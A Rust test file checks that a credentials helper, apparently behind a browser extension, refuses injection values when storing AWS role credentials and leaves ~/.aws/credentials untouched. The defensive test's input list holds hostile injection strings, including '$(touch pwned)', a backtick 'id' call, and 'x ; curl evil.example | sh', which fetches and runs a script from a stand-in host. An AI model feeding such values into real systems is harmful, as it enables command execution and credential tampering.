//! `storeRoleCredentials` with values outside AWS's alphabets (issue 14, Low 10): the helper refuses
//! them with error 24 before writing anything, so a hostile endpoint cannot add lines to
//! `~/.aws/credentials` through the extension.

mod common;

use common::*;
use serde_json::json;

#[test]
fn store_role_credentials_refuses_values_that_would_inject() {
    let home = Home::installed();
    let original = "[static]\naws_access_key_id = AKIAKEEP\naws_secret_access_key = keep\n";
    home.write(".aws/credentials", original);
    let before = home.snapshot();
    let mut session = home.session();
    let valid = json!({"accessKeyId": "ASIANEW", "secretAccessKey": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "sessionToken": "IQoJb3JpZ2luX2Vj+/token==", "expiration": 1_651_516_560_000u64});
    for (member, value) in [
        ("accessKeyId", "ASIA EVIL"),
        ("accessKeyId", "$(touch pwned)"),
        ("secretAccessKey", "x ; curl evil.example | sh"),
        ("secretAccessKey", "`id`"),
        ("sessionToken", "tok\"en"),
        ("sessionToken", "x # [default]"),
    ] {
        let mut credentials = valid.clone();
        credentials[member] = json!(value);
        let reply = session.request(&json!({"type": "storeRoleCredentials", "id": 1, "sessionName": "admin",
            "accountId": "123456789012", "roleName": "Admin", "credentials": credentials, "credentialsProfile": "dev"}));
        assert_eq!(error_code(&reply), Some(24), "{member} = {value:?}: {reply}");
        let message = reply["error"]["message"].as_str().unwrap();
        assert!(!message.contains(value), "{message}");
    }
    assert_eq!(home.snapshot(), before, "a refused request wrote something");
    let reply = session.request(&json!({"type": "storeRoleCredentials", "id": 2, "sessionName": "admin",
        "accountId": "123456789012", "roleName": "Admin", "credentials": valid, "credentialsProfile": "dev"}));
    assert_eq!(reply["ok"], true, "{reply}");
    session.finish();
}
